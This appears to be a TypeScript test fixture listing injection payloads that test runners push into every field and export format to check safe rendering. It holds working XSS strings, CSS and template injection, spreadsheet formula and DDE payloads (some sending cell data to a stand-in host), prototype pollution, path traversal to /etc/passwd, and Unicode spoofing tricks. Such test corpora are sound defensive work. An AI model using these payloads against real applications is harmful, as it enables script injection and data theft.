// Texts that are meant to become something else than text: markup, script, styles, addresses, formulas, Markdown, JSON,
// templates, or to hide and turn what stands beside them. Two runners put each of them into every field of every format, into
// addresses, logs and exports: `tests/packages/payloads.test.ts` and `tests/page/payloads.test.ts`. What a text would do if
// it came alive is seen by `pwned`, by an element or attribute of that name, and by requests to a host that does not exist.

const CALL = "globalThis.pwned=1";
const HOST = "other.invalid";

const html = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=//${HOST}/a.js></SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `"><script>${CALL}</script>`,
  `'><pwned-element data-pwned=1>`,
  `</td></tr></table><pwned-element></pwned-element>`,
  `</title></style></textarea></script><pwned-element>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="https://${HOST}/a.png">`,
  `<img/src/onerror=${CALL}//`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="https://${HOST}/a.swf">`,
  `<link rel=stylesheet href=https://${HOST}/a.css>`,
  `<base href="https://${HOST}/">`,
  `<meta http-equiv=refresh content="0;url=https://${HOST}/">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<form action=https://${HOST}/><input type=submit>`,
  `<video><source onerror=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<template><script>${CALL}</script></template>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><pwned-element/>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
];
const attributes = [
  `" onmouseover="${CALL}`,
  `' onfocus='${CALL}' autofocus='`,
  `" data-pwned="1`,
  `x\` onclick=${CALL} \``,
  `" style="background:url(https://${HOST}/a)`,
  `onerror=${CALL}`,
];
const svg = [
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=a onload=${CALL}>#a"/></svg>`,
  `<svg><foreignObject><iframe src=javascript:${CALL}></iframe></foreignObject></svg>`,
  `<svg><animate attributeName=href values=javascript:${CALL} /></svg>`,
  `</text><image href="https://${HOST}/a.png"/><text>`,
  `</svg><pwned-element>`,
];
const addresses = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\nscript:${CALL}`,
  ` javascript:${CALL}`,
  `javascript://${HOST}/%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+`,
  `blob:https://${HOST}/a`,
  `file:///etc/passwd`,
  `//${HOST}/a`,
  `https:\\\\${HOST}\\a`,
  `https://user:pass@${HOST}/`,
  `https://www.example.com@${HOST}/`,
  `https://${HOST}:8443/`,
  `http://${HOST}/`,
  `https://${HOST}/"onclick="${CALL}`,
  `../../../../etc/passwd`,
];
const styles = [
  `}*{background:url(https://${HOST}/a)}`,
  `</style><pwned-element>`,
  `@import url(https://${HOST}/a.css);`,
  `expression(${CALL})`,
  `color:red;behavior:url(#default#time2)`,
  `\\3c script\\3e`,
];
const formulas = [
  `=1+1`,
  `=HYPERLINK("https://${HOST}/?"&A1,"open")`,
  `=cmd|' /C calc'!A0`,
  `+1+1`,
  `-1+1`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  ` =1+1`,
  `\u00a0=1+1`,
  `\u3000=1+1`,
  `＝1+1`,
  `＋1`,
  `－1`,
  `＠SUM(1)`,
  `"=1+1`,
  `","=1+1`,
  `a\r\n=1+1,b`,
  `a;=1+1;b`,
  `=IMPORTXML("https://${HOST}/","//a")`,
  `\u200b=1+1`,
];
const markdown = [
  `[click](javascript:${CALL})`,
  `![a](https://${HOST}/a.png)`,
  `[a]: https://${HOST}/ "a"`,
  `<https://${HOST}/>`,
  `https://${HOST}/bare`,
  `www.${HOST}`,
  `someone@${HOST}`,
  `| a | b |\n|---|---|`,
  `a | <pwned-element> | b`,
  `\\| a \\\\| b`,
  "```\n</code><pwned-element>\n```",
  "`a`|`b`",
  `**a** _b_ ~~c~~ ^d^`,
  `# heading\n- [x] list`,
  `$\\href{javascript:${CALL}}{a}$`,
  `:smile: @mention #1 &copy;`,
  `[^1]: note`,
];
const json = [
  `"}],"pwned":[{"a":"`,
  `\\"},{\\"pwned\\":1`,
  `\\u0022,\\u0022pwned\\u0022:\\u00221`,
  `null`,
  `{"__proto__":{"polluted":1}}`,
  `]]>`,
  `//pwned\n*/`,
];
const templates = [
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `[[${CALL}]]`,
  `{%raw%}{{7*7}}`,
  `{name} {count} {price}`,
  `%s%s%n%x`,
  `';${CALL};//`,
  `\`;${CALL};//`,
  `$& $1 $\` $'`,
];
const hidden = [
  `a\u202egnp.exe`,
  `\u2066a\u2069\u2067b`,
  `pay\u200bpal`,
  `\ufeff<pwned-element>`,
  `a\u00adb`,
  `\u{e0041}\u{e0042}`,
  `\u2028${CALL}\u2029`,
  `<\u0000script>${CALL}</script>`,
  `a\u0000b`,
  `\u0007\u001b[31mred\u001b]0;pwned\u0007`,
  `\u0085\u009b31m`,
  `e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301`,
  `раураl.com`,
  `${"a".repeat(300)}<pwned-element>`,
];
const names = [`__proto__`, `constructor`, `toString`, `hasOwnProperty`, `undefined`, `NaN`];

const GROUPS = {
  html,
  attributes,
  svg,
  addresses,
  styles,
  formulas,
  markdown,
  json,
  templates,
  hidden,
  names,
};

export interface Payload {
  kind: string;
  text: string;
}

export const PAYLOADS: readonly Payload[] = Object.entries(GROUPS).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind, text })),
);
